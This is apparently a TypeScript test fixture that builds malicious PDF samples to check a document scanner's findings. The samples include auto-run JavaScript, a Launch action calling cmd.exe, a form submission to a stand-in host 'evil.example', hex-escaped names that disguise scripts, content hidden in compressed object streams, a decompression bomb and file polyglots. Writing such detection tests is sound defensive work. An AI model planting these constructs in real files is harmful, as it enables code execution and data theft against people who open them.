import { deflateSync } from 'node:zlib';
import type { FileFindingCode } from '../../../src/usecases/materials/material-ports.js';
import { pdfOf } from '../../support/pdf.js';
import type { HostileFile } from './hostile-file.js';
import { packageOf } from './documents.js';

const pdf = (what: string, finding: FileFindingCode, bytes: Buffer): HostileFile => ({
  what: `a PDF with ${what}`,
  name: '说明.pdf',
  bytes,
  finding,
});

const object = (content: string): string => `9 0 obj\n${content}\nendobj\n`;

/** Objects that are packed into a stream, as every newer writer does. */
export function objectStream(content: string, dictionary = ''): string {
  const packed = deflateSync(Buffer.from(`9 0 ${content}`)).toString('latin1');
  return `8 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode ${dictionary}/Length ${packed.length} >>\nstream\n${packed}\nendstream\nendobj\n`;
}

/** A PDF whose bytes are those of the text, one to one. */
export function binaryPdf(note: string, body: string): Buffer {
  return Buffer.from(
    pdfOf(note, '@BODY@')
      .toString('latin1')
      .replace('@BODY@', () => body),
    'latin1',
  );
}

const ACTIONS: readonly (readonly [what: string, content: string])[] = [
  ['JavaScript when it opens', '<< /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>'],
  ['a named script', '<< /Names << /JavaScript 10 0 R >> >>'],
  ['a script of a rendition', '<< /S /Rendition /JS (x) >>'],
  ['JavaScript in disguise', '<< /S /Java#53cript /#4aS (x) >>'],
  ['a rendition in disguise', '<< /S /#52endition /#4A#53 (x) >>'],
  ['a launch of a program', '<< /S /Launch /F (cmd.exe) >>'],
  ['a launch in disguise', '<< /S /L#61unch /F (cmd.exe) >>'],
  ['a form of XFA', '<< /AcroForm << /XFA 10 0 R >> >>'],
  ['a form that sends itself', '<< /S /SubmitForm /F (http://evil.example) >>'],
  ['an import of data', '<< /S /ImportData /F (a.fdf) >>'],
  ['rich media', '<< /Subtype /RichMedia >>'],
  ['a jump into an attachment', '<< /S /GoToE /T << >> >>'],
];

/** PDFs that do something, hide something, or are something else besides. */
export const hostilePdfs: readonly HostileFile[] = [
  ...ACTIONS.map(([what, content]) => pdf(what, 'active-content', pdfOf(what, object(content)))),
  pdf('an attachment', 'embedded-file', pdfOf('a', object('<< /Type /EmbeddedFile /Length 0 >>'))),
  pdf(
    'a list of attachments',
    'embedded-file',
    pdfOf('b', object('<< /Names << /EmbeddedFiles 3 0 R >> >>')),
  ),
  pdf('a file behind a pin', 'embedded-file', pdfOf('c', object('<< /Subtype /FileAttachment >>'))),
  pdf('a password', 'encrypted', pdfOf('d', 'trailer\n<< /Encrypt 9 0 R >>\n')),
  pdf('a script in packed objects', 'active-content', binaryPdf('e', objectStream('<< /S /JavaScript >>'))),
  pdf('a launch in packed objects', 'active-content', binaryPdf('f', objectStream('<< /S /Launch >>'))),
  pdf(
    'an attachment in packed objects',
    'embedded-file',
    binaryPdf('g', objectStream('<< /EmbeddedFiles 1 0 R >>')),
  ),
  pdf(
    'a disguised script in packed objects',
    'active-content',
    binaryPdf('h', objectStream('<< /S /J#61vaScript >>', '/Extends 3 0 R ')),
  ),
  pdf(
    'a disguised name of packed objects',
    'active-content',
    binaryPdf('i', objectStream('<< /S /Launch >>').replace('/ObjStm', '/Obj#53tm')),
  ),
  pdf(
    'packed objects behind a predictor',
    'active-content',
    binaryPdf('q', objectStream('<< >>', '/DecodeParms << /Predictor 12 >> ')),
  ),
  pdf(
    'objects packed twice',
    'active-content',
    binaryPdf('r', objectStream('<< >>').replace('/FlateDecode', '[/ASCIIHexDecode /FlateDecode]')),
  ),
  pdf(
    'a script in packed objects behind a long dictionary',
    'active-content',
    binaryPdf('s', objectStream('<< /S /JavaScript >>', `/Pad (${'x'.repeat(5_000)}) `)),
  ),
  pdf(
    'a script in packed objects where pieces are cut',
    'active-content',
    binaryPdf('t', `% ${'x'.repeat(48 * 1024 - 330)}\n${objectStream('<< /S /JavaScript >>')}`),
  ),
  pdf(
    'a stream without a beginning',
    'active-content',
    binaryPdf('u', `% ${'x'.repeat(70_000)}\nstream\nhidden\nendstream\n`),
  ),
  pdf(
    'packed objects that unpack to too much',
    'unpacks-to-too-much',
    binaryPdf('j', objectStream(' '.repeat(70 * 1024 * 1024))),
  ),
  pdf('no end', 'broken-file', pdfOf('k').subarray(0, -8)),
  pdf(
    'a page of HTML behind it',
    'polyglot',
    Buffer.concat([pdfOf('l'), Buffer.from('<html><script>1</script></html>')]),
  ),
  pdf('an archive behind it', 'polyglot', packageOf('docx', [], { before: pdfOf('m') })),
  pdf(
    'an archive behind it that counts from the start',
    'polyglot',
    packageOf('docx', [], { before: pdfOf('n'), placesFromStart: true }),
  ),
  pdf('something before it', 'content-differs', Buffer.concat([Buffer.from('GIF89a;'), pdfOf('o')])),
  pdf(
    'a version that there is not',
    'content-differs',
    Buffer.from(pdfOf('p').toString('latin1').replace('%PDF-1.7', '%PDF-9')),
  ),
];
